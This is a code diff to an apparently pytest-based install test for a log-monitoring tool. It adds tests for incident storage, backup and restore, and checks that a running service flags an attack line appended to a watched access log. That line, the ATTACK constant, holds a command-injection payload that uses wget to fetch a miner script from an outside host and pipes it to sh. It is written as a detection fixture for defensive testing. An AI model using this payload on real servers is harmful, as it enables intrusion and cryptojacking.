@@ -12,8 +12,10 @@ import shutil
 import subprocess
 import tarfile
 import tempfile
+import time
 import zipfile
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -28,6 +30,7 @@ pytestmark = pytest.mark.install
 
 EXPORTS = ("text", "markdown", "html", "json", "ocsf", "navigator", "misp", "csv", "iocs")
 LOG = samples.EXAMPLES / "home-server-access.log"
+ATTACK = '203.0.113.9 - - [{when}] "GET /x?c=$(wget+http://198.51.100.7/xmrig.sh+-O-|sh) HTTP/1.1" 404 9 "-" "curl/8"\n'
 NOBODY = 65534
 WITHOUT = {
     "host": "psutil",
@@ -91,10 +94,51 @@ def works(environment: Environment, inputs: Path, folder: Path) -> None:
     for command in (["devices", inputs / "dns-server.pcap"], ["rules", "test"], ["formats"], ["--version"]):
         done = environment.run(*command, folder=folder)
         assert done.returncode == 0 and done.stdout.strip(), f"{command}: {done.stderr}"
+    keeps(environment, inputs, folder)
+    watches(environment, folder)
     for kind in EXPORTS:
         done = environment.run("analyze", "--format", kind, "-o", f"out.{kind}", LOG, folder=folder)
         assert done.returncode == 0 and "Traceback" not in done.stderr, f"{kind}: {done.stderr}"
         assert (folder / f"out.{kind}").stat().st_size > 200, kind
+
+
+def keeps(environment: Environment, inputs: Path, folder: Path) -> None:
+    """What a run keeps is listed and told, backed up and brought back."""
+
+    def said(*command: str | Path) -> str:
+        done = environment.run(*command, folder=folder)
+        assert done.returncode == 0 and done.stdout.strip(), f"{command}: {done.stderr}"
+        return done.stdout
+
+    said("analyze", "--store", "kept", LOG)
+    said("baseline", "learn", inputs / "dns-server.pcap", "--store", "kept")
+    listed, normal = said("incident", "list", "--store", "kept"), said("baseline", "show", "--store", "kept")
+    said("ask", listed.split()[0], "did it work?", "--store", "kept")
+    said("backup", "kept.tar.gz", "--store", "kept")
+    said("restore", "kept.tar.gz", "--store", "again")
+    assert said("incident", "list", "--store", "again") == listed
+    assert said("baseline", "show", "--store", "again") == normal
+
+
+def watches(environment: Environment, folder: Path) -> None:
+    """The service goes on with a store, judges a line that is written, answers others, and ends when it is asked to."""
+    (folder / "access.log").touch()
+    (folder / "kanaria.toml").write_text('store = "again"\n[[sources]]\nkind = "file"\npath = "access.log"\n')
+    before = environment.run("incident", "list", "--config", "kanaria.toml", folder=folder).stdout.splitlines()
+    with environment.running("serve", "--config", "kanaria.toml", folder=folder) as service:
+        assert service.stderr is not None
+        assert any(" started " in line for line in service.stderr)
+        with (folder / "access.log").open("a") as server:
+            server.write(ATTACK.format(when=datetime.now(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")))
+        until, listed = time.monotonic() + 120, before
+        while len(listed) == len(before) and time.monotonic() < until:
+            listed = environment.run("incident", "list", "--config", "kanaria.toml", folder=folder).stdout.splitlines()
+        assert len(listed) == len(before) + 1, service.poll()
+        wrong = environment.run("doctor", "--config", "kanaria.toml", folder=folder).stdout
+        assert wrong == "- Nobody is notified: there is no [[notify]] in the settings.\n"
+        service.terminate()
+        assert "stopped records=1" in service.stderr.read()
+        assert service.wait(timeout=60) == 0
 
 
 def reads_every_format(environment: Environment, inputs: Path, folder: Path) -> None:
